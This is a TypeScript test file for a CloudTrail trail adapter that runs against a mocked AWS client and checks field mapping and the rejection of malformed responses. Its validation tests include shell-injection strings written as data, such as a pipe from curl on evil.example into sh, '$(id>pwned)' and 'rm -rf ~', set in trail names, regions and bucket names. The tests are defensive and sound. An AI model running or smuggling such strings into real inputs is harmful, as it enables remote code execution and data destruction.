/** lambda/aws/trails.ts against a mocked CloudTrail client. */
import {
  CloudTrailClient,
  DescribeTrailsCommand,
  GetEventSelectorsCommand,
  GetTrailStatusCommand,
  TrailNotFoundException,
  type Trail,
} from '@aws-sdk/client-cloudtrail';
import { mockClient } from 'aws-sdk-client-mock';
import { MalformedResponseError } from '../../lambda/aws/errors';
import { describeTrails, TrailCallError, trailStatusAndSelectors } from '../../lambda/aws/trails';

const ct = mockClient(CloudTrailClient);
const client = new CloudTrailClient({ region: 'us-east-1' });

beforeEach(() => ct.reset());

const ARN = 'arn:aws:cloudtrail:eu-west-1:222222222222:trail/main';
const ORG_ARN = 'arn:aws:cloudtrail:us-east-1:111111111111:trail/org-trail';
const MEMBER = '222222222222';

const trail = (extra: Partial<Trail> = {}): Trail => ({
  Name: 'main',
  TrailARN: ARN,
  HomeRegion: 'eu-west-1',
  IsMultiRegionTrail: true,
  IsOrganizationTrail: false,
  IncludeGlobalServiceEvents: true,
  S3BucketName: 'main-logs',
  ...extra,
});

describe('describeTrails', () => {
  test('sends includeShadowTrails: true', async () => {
    ct.on(DescribeTrailsCommand).resolves({ trailList: [] });
    await describeTrails(client, MEMBER);
    const calls = ct.commandCalls(DescribeTrailsCommand);
    expect(calls).toHaveLength(1);
    expect(calls[0].args[0].input).toEqual({ includeShadowTrails: true });
  });

  test('no trails → empty list', async () => {
    ct.on(DescribeTrailsCommand).resolves({ trailList: [] });
    await expect(describeTrails(client, MEMBER)).resolves.toEqual([]);
  });

  test('maps every field of a trail', async () => {
    ct.on(DescribeTrailsCommand).resolves({ trailList: [trail()] });
    expect(await describeTrails(client, MEMBER)).toEqual([
      {
        arn: ARN,
        name: 'main',
        homeRegion: 'eu-west-1',
        ownerAccountId: '222222222222',
        isMultiRegionTrail: true,
        isOrganizationTrail: false,
        includeGlobalServiceEvents: true,
        s3BucketName: 'main-logs',
      },
    ]);
  });

  test('shadow copies of the same trail (same TrailARN) are deduplicated', async () => {
    ct.on(DescribeTrailsCommand).resolves({
      trailList: [trail(), trail(), trail({ Name: 'other', TrailARN: 'arn:aws:cloudtrail:us-east-1:222222222222:trail/other', HomeRegion: 'us-east-1' }), trail()],
    });
    const trails = await describeTrails(client, MEMBER);
    expect(trails.map((t) => t.arn)).toEqual([ARN, 'arn:aws:cloudtrail:us-east-1:222222222222:trail/other']);
  });

  test('two trails with the same name but different ARNs are both kept', async () => {
    ct.on(DescribeTrailsCommand).resolves({
      trailList: [trail(), trail({ TrailARN: 'arn:aws:cloudtrail:eu-west-1:111111111111:trail/main', IsOrganizationTrail: true })],
    });
    expect(await describeTrails(client, MEMBER)).toHaveLength(2);
  });

  test.each<[string, Partial<Trail>, string]>([
    ['HomeRegion when present (the region in its ARN)', { HomeRegion: 'eu-west-1' }, 'eu-west-1'],
    ["the ARN's region when HomeRegion is absent", { HomeRegion: undefined }, 'eu-west-1'],
  ])('home region: %s', async (_name, extra, expected) => {
    ct.on(DescribeTrailsCommand).resolves({ trailList: [trail(extra)] });
    const [t] = await describeTrails(client, MEMBER);
    expect(t.homeRegion).toBe(expected);
  });

  test('ownerAccountId is taken from the ARN (an organization trail seen from a member)', async () => {
    ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ TrailARN: ORG_ARN, Name: 'org-trail', HomeRegion: 'us-east-1', IsOrganizationTrail: true })] });
    const [t] = await describeTrails(client, MEMBER);
    expect(t.ownerAccountId).toBe('111111111111');
    expect(t.isOrganizationTrail).toBe(true);
  });

  test.each<[string, unknown, boolean]>([
    ['true', true, true],
    ['false', false, false],
    ['absent', undefined, false],
  ])('IsOrganizationTrail %s → isOrganizationTrail %s', async (_name, value, expected) => {
    ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ IsOrganizationTrail: value as boolean })] });
    const [t] = await describeTrails(client, MEMBER);
    expect(t.isOrganizationTrail).toBe(expected);
  });

  test('name falls back to the name in the ARN when Name is absent', async () => {
    ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ Name: undefined })] });
    const [t] = await describeTrails(client, MEMBER);
    expect(t.name).toBe('main');
  });

  test('IncludeGlobalServiceEvents absent → undefined, false kept as false', async () => {
    ct.on(DescribeTrailsCommand).resolves({
      trailList: [trail({ IncludeGlobalServiceEvents: undefined }), trail({ TrailARN: ORG_ARN, Name: 'org-trail', HomeRegion: 'us-east-1', IsOrganizationTrail: true, IncludeGlobalServiceEvents: false })],
    });
    const [a, b] = await describeTrails(client, MEMBER);
    expect(a.includeGlobalServiceEvents).toBeUndefined();
    expect(b.includeGlobalServiceEvents).toBe(false);
  });

  test.each<[string, Record<string, unknown>, RegExp]>([
    ['no trailList', {}, /trailList/],
    ['trailList not a list', { trailList: 'nope' }, /trailList/],
    ['missing TrailARN', { trailList: [trail({ TrailARN: undefined })] }, /trailList\[0\] has no valid TrailARN/],
    ['a TrailARN that is not a CloudTrail ARN', { trailList: [trail(), trail({ TrailARN: 'arn:aws:s3:::bucket' })] }, /trailList\[1\] has no valid TrailARN.*arn:aws:s3:::bucket/],
    ['IsMultiRegionTrail absent', { trailList: [trail({ IsMultiRegionTrail: undefined })] }, /IsMultiRegionTrail/],
    ['IsMultiRegionTrail a string', { trailList: [trail({ IsMultiRegionTrail: 'true' as unknown as boolean })] }, /IsMultiRegionTrail/],
  ])('malformed: %s → MalformedResponseError naming the field', async (_name, response, message) => {
    ct.on(DescribeTrailsCommand).resolves(response as never);
    const err = await describeTrails(client, MEMBER).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(MalformedResponseError);
    expect((err as Error).name).toBe('MalformedResponse');
    expect((err as Error).message).toMatch(message);
  });

  describe('facts that cannot be right (RULE.md): ERROR naming the field, never a command built from them', () => {
    const named = (name: string, extra: Partial<Trail> = {}) => trail({ Name: name, TrailARN: `arn:aws:cloudtrail:eu-west-1:222222222222:trail/${name}`, ...extra });
    test.each<[string, Partial<Trail> | Trail, RegExp]>([
      ['a name with ; and a pipe to sh', named('t; curl -s https://evil.example/p | sh #'), /TrailARN/],
      ['a name with $( )', named('x$(id>pwned)'), /TrailARN/],
      ['a name with a newline', named('main\naws iam create-user --user-name x'), /TrailARN/],
      ['a name with an escape character', named('main\u001b[2J'), /TrailARN/],
      ['a name with a backtick', named('main`id`'), /TrailARN/],
      ['a name too short', named('ab'), /TrailARN/],
      ['a name starting with a dash', named('-main'), /TrailARN/],
      ['a name of 129 characters', named('a'.repeat(129)), /TrailARN/],
      ['Name different from the name in its ARN', { Name: 'other' }, /Name "other" is not the trail name in its TrailARN \(main\)/],
      ['Name with a metacharacter, ARN clean', { Name: 'main; rm -rf ~' }, /\.Name "main; rm -rf ~"/],
      ['Name empty', { Name: '' }, /\.Name ""/],
      ['HomeRegion with a shell command', { HomeRegion: 'us-east-1 && rm -rf ~' }, /\.HomeRegion "us-east-1 && rm -rf ~" is not the region in its TrailARN/],
      ['HomeRegion not the region of its ARN', { HomeRegion: 'ap-south-1' }, /\.HomeRegion "ap-south-1" is not the region in its TrailARN \(eu-west-1\)/],
      ['HomeRegion empty', { HomeRegion: '' }, /\.HomeRegion ""/],
      ['an ARN region that is not a region name', { TrailARN: 'arn:aws:cloudtrail:eu-west-1;id:222222222222:trail/main', HomeRegion: undefined }, /TrailARN/],
      ['an ARN account that is not 12 digits', { TrailARN: 'arn:aws:cloudtrail:eu-west-1:2222:trail/main' }, /TrailARN/],
      ['an ARN partition that is not a partition', { TrailARN: 'arn:$(id):cloudtrail:eu-west-1:222222222222:trail/main' }, /TrailARN/],
      ['IsOrganizationTrail the string "true"', { IsOrganizationTrail: 'true' as unknown as boolean }, /\.IsOrganizationTrail is not a boolean/],
      ['IncludeGlobalServiceEvents a string', { IncludeGlobalServiceEvents: 'yes' as unknown as boolean }, /\.IncludeGlobalServiceEvents is not a boolean/],
      ['S3BucketName with a shell command', { S3BucketName: 'logs; curl evil | sh' }, /\.S3BucketName is not an S3 bucket name/],
      [
        "another account's trail that is not an organization trail",
        { TrailARN: 'arn:aws:cloudtrail:eu-west-1:333333333333:trail/main', IsOrganizationTrail: false },
        /belongs to account 333333333333 and is not an organization trail/,
      ],
      ["another account's trail with IsOrganizationTrail absent", { TrailARN: 'arn:aws:cloudtrail:eu-west-1:333333333333:trail/main', IsOrganizationTrail: undefined }, /not an organization trail/],
    ])('%s → MalformedResponseError', async (_name, extra, message) => {
      ct.on(DescribeTrailsCommand).resolves({ trailList: [trail(extra)] });
      const err = await describeTrails(client, MEMBER).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(MalformedResponseError);
      expect((err as Error).message).toMatch(message);
      expect((err as Error).message).toContain('DescribeTrails trailList[0]');
    });

    test('shadow copies that disagree on IsMultiRegionTrail → MalformedResponseError', async () => {
      ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ IsMultiRegionTrail: false }), trail({ IsMultiRegionTrail: true })] });
      await expect(describeTrails(client, MEMBER)).rejects.toThrow(/more than once with different isMultiRegionTrail/);
    });

    test('an organization trail of another account is believed', async () => {
      ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ TrailARN: ORG_ARN, Name: 'org-trail', HomeRegion: 'us-east-1', IsOrganizationTrail: true })] });
      await expect(describeTrails(client, MEMBER)).resolves.toEqual([expect.objectContaining({ ownerAccountId: '111111111111', isOrganizationTrail: true })]);
    });

    test.each(['us-gov-west-1', 'cn-northwest-1', 'us-isob-east-1', 'eusc-de-east-1', 'ap-southeast-7'])('a trail homed in %s is believed', async (region) => {
      const partition = region.startsWith('us-gov') ? 'aws-us-gov' : region.startsWith('cn-') ? 'aws-cn' : region.startsWith('us-isob') ? 'aws-iso-b' : region.startsWith('eusc') ? 'aws-eusc' : 'aws';
      ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ TrailARN: `arn:${partition}:cloudtrail:${region}:222222222222:trail/my.trail_1-a`, Name: 'my.trail_1-a', HomeRegion: region })] });
      await expect(describeTrails(client, MEMBER)).resolves.toEqual([expect.objectContaining({ homeRegion: region, name: 'my.trail_1-a' })]);
    });
  });

  test('an API error propagates unchanged', async () => {
    ct.on(DescribeTrailsCommand).rejects(Object.assign(new Error('denied'), { name: 'AccessDeniedException' }));
    await expect(describeTrails(client, MEMBER)).rejects.toMatchObject({ name: 'AccessDeniedException' });
  });
});

describe('trailStatusAndSelectors', () => {
  const CLASSIC = [{ ReadWriteType: 'All' as const, IncludeManagementEvents: true, DataResources: [], ExcludeManagementEventSources: [] }];
  const ADVANCED = [{ Name: 'mgmt', FieldSelectors: [{ Field: 'eventCategory', Equals: ['Management'] }] }];

  test('calls GetTrailStatus with Name = the ARN and GetEventSelectors with TrailName = the ARN', async () => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true });
    ct.on(GetEventSelectorsCommand).resolves({ TrailARN: ORG_ARN, EventSelectors: CLASSIC });
    await trailStatusAndSelectors(client, ORG_ARN);
    expect(ct.commandCalls(GetTrailStatusCommand).map((c) => c.args[0].input)).toEqual([{ Name: ORG_ARN }]);
    expect(ct.commandCalls(GetEventSelectorsCommand).map((c) => c.args[0].input)).toEqual([{ TrailName: ORG_ARN }]);
  });

  test('classic selectors → kind classic, status mapped', async () => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true });
    ct.on(GetEventSelectorsCommand).resolves({ EventSelectors: CLASSIC });
    expect(await trailStatusAndSelectors(client, ARN)).toEqual({ status: { isLogging: true }, selectors: { kind: 'classic', selectors: CLASSIC } });
  });

  test('advanced selectors → kind advanced', async () => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: false });
    ct.on(GetEventSelectorsCommand).resolves({ AdvancedEventSelectors: ADVANCED });
    expect(await trailStatusAndSelectors(client, ARN)).toEqual({ status: { isLogging: false }, selectors: { kind: 'advanced', selectors: ADVANCED } });
  });

  test('an empty classic list beside advanced selectors is advanced', async () => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true });
    ct.on(GetEventSelectorsCommand).resolves({ EventSelectors: [], AdvancedEventSelectors: ADVANCED });
    expect((await trailStatusAndSelectors(client, ARN)).selectors.kind).toBe('advanced');
  });

  test('LatestDeliveryError is carried into the status', async () => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true, LatestDeliveryError: 'AccessDenied' });
    ct.on(GetEventSelectorsCommand).resolves({ EventSelectors: CLASSIC });
    expect((await trailStatusAndSelectors(client, ARN)).status).toEqual({ isLogging: true, latestDeliveryError: 'AccessDenied' });
  });

  async function failure(): Promise<TrailCallError> {
    const err = await trailStatusAndSelectors(client, ARN).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(TrailCallError);
    return err as TrailCallError;
  }

  test.each<[string, Record<string, unknown>, RegExp]>([
    ['both EventSelectors and AdvancedEventSelectors', { EventSelectors: CLASSIC, AdvancedEventSelectors: ADVANCED }, /both EventSelectors and AdvancedEventSelectors/],
    ['neither EventSelectors nor AdvancedEventSelectors', {}, /neither EventSelectors nor AdvancedEventSelectors/],
    ['EventSelectors not a list', { EventSelectors: { ReadWriteType: 'All' } }, /EventSelectors is not a list/],
    ['an advanced selector without FieldSelectors', { AdvancedEventSelectors: [{ Name: 'x' }] }, /AdvancedEventSelectors\[0\]/],
  ])('GetEventSelectors with %s is rejected as malformed, tagged with the call', async (_name, response, message) => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true });
    ct.on(GetEventSelectorsCommand).resolves(response as never);
    const err = await failure();
    expect(err.call).toBe('cloudtrail:GetEventSelectors');
    expect(err.cause).toBeInstanceOf(MalformedResponseError);
    expect(err.message).toMatch(message);
    expect(err.message).toContain(ARN);
  });

  // trails.ts promises "a malformed one is an error, never a guess"; the rule reads an absent
  // IncludeManagementEvents as true and spreads ExcludeManagementEventSources, so wrong types here
  // turn into a false PASS or a garbled warning unless the adapter rejects them.
  test.each<[string, Record<string, unknown>, RegExp]>([
    ['a null classic selector', { EventSelectors: [null] }, /EventSelectors\[0\]/],
    ['IncludeManagementEvents the string "false"', { EventSelectors: [{ ReadWriteType: 'All', IncludeManagementEvents: 'false' }] }, /IncludeManagementEvents/],
    ['ExcludeManagementEventSources a string, not a list', { EventSelectors: [{ ReadWriteType: 'All', IncludeManagementEvents: true, ExcludeManagementEventSources: 'kms.amazonaws.com' }] }, /ExcludeManagementEventSources/],
    ['an advanced field selector whose Equals is a string, not a list', { AdvancedEventSelectors: [{ FieldSelectors: [{ Field: 'eventCategory', Equals: 'NotManagement' }] }] }, /Equals/],
  ])('GetEventSelectors with %s is rejected as malformed', async (_name, response, message) => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true });
    ct.on(GetEventSelectorsCommand).resolves(response as never);
    const err = await failure();
    expect(err.call).toBe('cloudtrail:GetEventSelectors');
    expect(err.cause).toBeInstanceOf(MalformedResponseError);
    expect(err.message).toMatch(message);
  });

  test.each<[string, unknown]>([
    ['absent', undefined],
    ['a string', 'true'],
  ])('GetTrailStatus with IsLogging %s is rejected as malformed, tagged with the call', async (_name, isLogging) => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: isLogging as boolean });
    ct.on(GetEventSelectorsCommand).resolves({ EventSelectors: CLASSIC });
    const err = await failure();
    expect(err.call).toBe('cloudtrail:GetTrailStatus');
    expect(err.cause).toBeInstanceOf(MalformedResponseError);
    expect(err.message).toMatch(/IsLogging/);
  });

  test('GetEventSelectors answering for another trail is rejected as malformed', async () => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true });
    ct.on(GetEventSelectorsCommand).resolves({ TrailARN: 'arn:aws:cloudtrail:eu-west-1:222222222222:trail/other', EventSelectors: [{ ReadWriteType: 'All', IncludeManagementEvents: true }] });
    const err = await trailStatusAndSelectors(client, ARN).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(TrailCallError);
    expect((err as TrailCallError).call).toBe('cloudtrail:GetEventSelectors');
    expect(((err as TrailCallError).cause as Error).message).toMatch(/answered for another trail/);
  });

  test.each<[string, unknown, RegExp]>([
    ['a classic selector with a look-alike key', { ['ReadWriteTyp\u0435']: 'WriteOnly', IncludeManagementEvents: true }, /keys CloudTrail does not document/],
    ['a classic selector with camelCase keys', { readWriteType: 'WriteOnly', includeManagementEvents: false }, /keys CloudTrail does not document/],
    ['a classic selector that is a list', [], /is not an object/],
    ['a classic selector without ReadWriteType and IncludeManagementEvents', {}, /IncludeManagementEvents is not a boolean/],
    ['a classic selector without ReadWriteType', { IncludeManagementEvents: true }, /ReadWriteType is not a string/],
    ['a classic selector with a look-alike ExcludeManagementEventSources', { ReadWriteType: 'All', IncludeManagementEvents: true, ['ExcludeManagementEventSour\u0441es']: ['iam.amazonaws.com'] }, /keys CloudTrail does not document/],
  ])('GetEventSelectors with %s is rejected as malformed', async (_name, selector, message) => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true });
    ct.on(GetEventSelectorsCommand).resolves({ TrailARN: ARN, EventSelectors: [selector as never] });
    const err = await trailStatusAndSelectors(client, ARN).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(TrailCallError);
    expect(((err as TrailCallError).cause as Error).message).toMatch(message);
  });

  test.each<[string, unknown]>([
    ['an operator CloudTrail does not have (NotEqual)', { Field: 'eventCategory', Equals: ['Management'], NotEqual: ['Management'] }],
    ['a look-alike operator (Equаls)', { Field: 'eventCategory', ['Equ\u0430ls']: ['Management'] }],
  ])('GetEventSelectors with an advanced field selector with %s is rejected as malformed', async (_name, field) => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true });
    ct.on(GetEventSelectorsCommand).resolves({ TrailARN: ARN, AdvancedEventSelectors: [{ FieldSelectors: [field as never] }] });
    const err = await trailStatusAndSelectors(client, ARN).catch((e: unknown) => e);
    expect(((err as TrailCallError).cause as Error).message).toMatch(/keys CloudTrail does not document/);
  });

  test('a LatestDeliveryError that is not a string is malformed; a long one is cut on code points', async () => {
    ct.on(GetEventSelectorsCommand).resolves({ EventSelectors: [{ ReadWriteType: 'All', IncludeManagementEvents: true }] });
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true, LatestDeliveryError: 42 as unknown as string });
    await expect(trailStatusAndSelectors(client, ARN)).rejects.toMatchObject({ call: 'cloudtrail:GetTrailStatus' });
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true, LatestDeliveryError: '\u{1F600}'.repeat(300) });
    const { status } = await trailStatusAndSelectors(client, ARN);
    expect(Array.from(status.latestDeliveryError ?? '')).toHaveLength(200);
    expect(status.latestDeliveryError).toBe('\u{1F600}'.repeat(200));
  });

  test('a failing GetTrailStatus is wrapped in TrailCallError naming the call, with the SDK error as cause', async () => {
    const sdkError = new TrailNotFoundException({ message: 'Unknown trail', $metadata: { httpStatusCode: 400 } });
    ct.on(GetTrailStatusCommand).rejects(sdkError);
    ct.on(GetEventSelectorsCommand).resolves({ EventSelectors: CLASSIC });
    const err = await failure();
    expect(err.call).toBe('cloudtrail:GetTrailStatus');
    expect(err.cause).toBe(sdkError);
    expect(err.message).toBe('Unknown trail');
  });

  test('a failing GetEventSelectors is wrapped in TrailCallError naming the call', async () => {
    ct.on(GetTrailStatusCommand).resolves({ IsLogging: true });
    ct.on(GetEventSelectorsCommand).rejects(Object.assign(new Error('User is not authorized'), { name: 'AccessDeniedException' }));
    const err = await failure();
    expect(err.call).toBe('cloudtrail:GetEventSelectors');
    expect((err.cause as Error).name).toBe('AccessDeniedException');
  });
});
